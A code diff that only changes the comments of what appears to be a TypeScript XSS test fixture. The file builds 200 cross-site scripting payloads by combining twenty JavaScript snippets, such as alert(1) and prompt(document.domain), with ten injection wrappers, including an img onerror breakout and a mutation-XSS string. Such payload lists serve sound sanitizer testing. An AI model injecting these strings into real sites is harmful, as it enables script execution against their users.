@@ -1,4 +1,4 @@
-/** 200 texts that run code or load a resource if a page treats text as markup, a URL or a script: twenty attacks in ten wrappers each. */
+/** Twenty pieces of code that an attacker could try to run. */
 const LOADS = [
   "alert(1)",
   "window.__ran=1",
@@ -22,6 +22,7 @@ const LOADS = [
   "prompt(document.domain)",
 ];
 
+/** Ten wrappers that run the code if a page treats text as markup, a URL or a script. */
 const CARRIERS: Array<(load: string) => string> = [
   (load) => `<script>${load}</script>`,
   (load) => `"><img src=x onerror="${load}">`,
@@ -35,4 +36,5 @@ const CARRIERS: Array<(load: string) => string> = [
   (load) => `\u202E\u0000<math><mtext></form><form><mglyph><style></math><img src onerror=${load}>`,
 ];
 
+/** 200 texts: each piece of code in each wrapper. */
 export const PAYLOADS = CARRIERS.flatMap((carry) => LOADS.map(carry));
